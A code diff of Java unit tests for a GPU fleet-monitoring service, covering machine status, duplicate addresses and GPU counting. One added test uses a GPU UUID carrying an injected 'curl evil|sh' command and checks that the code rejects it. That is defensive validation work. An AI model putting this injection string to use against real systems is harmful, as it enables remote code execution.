@@ -16,6 +16,7 @@ import java.time.Duration;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.concurrent.TimeUnit;
 import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
@@ -48,11 +49,14 @@ class FleetTests {
         this.machines = new Machines(
                 list,
                 (address) -> Mono.defer(() -> this.answers.getOrDefault(address.label(), Mono.never())),
-                () -> Reports.AT.plusMillis(this.time.now(java.util.concurrent.TimeUnit.MILLISECONDS)),
-                this.time);
+                new Machines.Time(() -> Reports.AT.plusNanos(nanos()), this::nanos, this.time, this.time));
         this.machines.start();
         pass(1);
         return new Fleet(() -> this.local, this.machines, () -> Reports.AT);
+    }
+
+    private long nanos() {
+        return this.time.now(TimeUnit.NANOSECONDS);
     }
 
     private void pass(int seconds) {
@@ -73,9 +77,10 @@ class FleetTests {
                 .extracting(Member::id, Member::answer)
                 .containsExactly(
                         org.assertj.core.groups.Tuple.tuple("", Answer.LOCAL),
-                        org.assertj.core.groups.Tuple.tuple("a:1", Answer.WAITING),
-                        org.assertj.core.groups.Tuple.tuple("b:1", Answer.OK),
-                        org.assertj.core.groups.Tuple.tuple("c:1", Answer.SILENT));
+                        org.assertj.core.groups.Tuple.tuple("http://a:1", Answer.WAITING),
+                        org.assertj.core.groups.Tuple.tuple("http://b:1", Answer.OK),
+                        org.assertj.core.groups.Tuple.tuple("http://c:1", Answer.SILENT));
+        assertThat(fleet.all(true).machinesUnknown()).isEqualTo(2);
         assertThat(fleet.all(true).gpus())
                 .containsEntry(WORKING, 2)
                 .containsEntry(FREE, 1)
@@ -87,7 +92,7 @@ class FleetTests {
         assertThat(silent.answer()).isEqualTo(Answer.SILENT);
         assertThat(silent.problem()).isEqualTo("It did not answer within 3 s.");
         assertThat(silent.since()).isEqualTo(Reports.AT.plusSeconds(5));
-        assertThat(silent.machine().gpus()).extracting(MachineReport.Gpu::use).containsExactly(UNKNOWN, UNKNOWN);
+        assertThat(silent.machine().gpus()).extracting(MachineGpu::use).containsExactly(UNKNOWN, UNKNOWN);
         assertThat(silent.machine().gpus().get(0).utilization()).isEqualTo(97);
 
         pass(30);
@@ -111,8 +116,8 @@ class FleetTests {
     @Test
     void theListMayHaveThisMachineAndMachinesOfOneName() {
         this.answers.put("a:1", Mono.just(this.local));
-        this.answers.put("b:1", Mono.just(Reports.of("twin", WORKING)));
-        this.answers.put("c:1", Mono.just(Reports.of("twin", WORKING)));
+        this.answers.put("b:1", Mono.just(Reports.run("1", "twin", WORKING)));
+        this.answers.put("c:1", Mono.just(Reports.run("2", "twin", WORKING)));
 
         assertThat(fleet("a:1", "b:1", "c:1").all(true).machines())
                 .extracting(Member::name)
@@ -178,6 +183,53 @@ class FleetTests {
         assertThat(found.heldIdle()).extracting((held) -> held.gpu().uuid()).containsExactly("GPU-b3");
         assertThat(fleet.free(wanting(2, "81GB", null), true).machines()).isEmpty();
         assertThat(fleet.free(wanting(1, null, "A100"), true).machines()).isEmpty();
+    }
+
+    @Test
+    void aMachineUnderTwoAddressesIsListedOnce() {
+        this.answers.put("a:1", Mono.just(Reports.of("a", FREE, FREE)));
+        this.answers.put("b:1", Mono.just(Reports.of("a", FREE, FREE)));
+        Fleet fleet = fleet("a:1", "b:1");
+
+        assertThat(fleet.all(true).machines()).hasSize(2);
+        assertThat(fleet.free(wanting(2, null, null), true).machines()).hasSize(1);
+    }
+
+    @Test
+    void aGpuCountsWithTheMachineThatAnswers() {
+        this.answers.put("a:1", Mono.just(Reports.of("a", List.of(Reports.gpu(0, "GPU-x", WORKING)))));
+        this.answers.put("b:1", Mono.just(Reports.of("b", List.of(Reports.gpu(0, "GPU-x", WORKING)))));
+        Fleet fleet = fleet("a:1", "b:1");
+        this.answers.put("a:1", Mono.error(() -> new MachineException("timeout")));
+        pass(5);
+
+        assertThat(fleet.all(true).gpus()).containsEntry(WORKING, 2).containsEntry(UNKNOWN, 0);
+    }
+
+    @Test
+    void anAnswerThatNoRequestConfirmsIsNone() {
+        this.answers.put("a:1", Mono.just(Reports.of("a", FREE)));
+        Fleet fleet = fleet("a:1");
+        assertThat(fleet.all(true).machines().get(1).ageMillis()).isEqualTo(1400L);
+        this.answers.put("a:1", Mono.never());
+        pass(20);
+
+        assertThat(fleet.all(true).machines().get(1).answer()).isEqualTo(Answer.SILENT);
+        assertThat(fleet.free(wanting(1, null, null), true).machines())
+                .extracting(FleetFreeResponse.Place::name)
+                .containsExactly("here");
+    }
+
+    @Test
+    void aUuidThatAShellWouldInterpretIsNoneAndItsGpuIsNotOffered() {
+        this.answers.put("a:1", Mono.just(Reports.of("a", List.of(Reports.gpu(0, "GPU-1;curl evil|sh", FREE)))));
+        Fleet fleet = fleet("a:1");
+
+        assertThat(fleet.all(true).machines().get(1).machine().gpus().get(0).uuid())
+                .isNull();
+        assertThat(fleet.free(wanting(1, null, null), true).machines())
+                .extracting(FleetFreeResponse.Place::name)
+                .containsExactly("here");
     }
 
     @Test
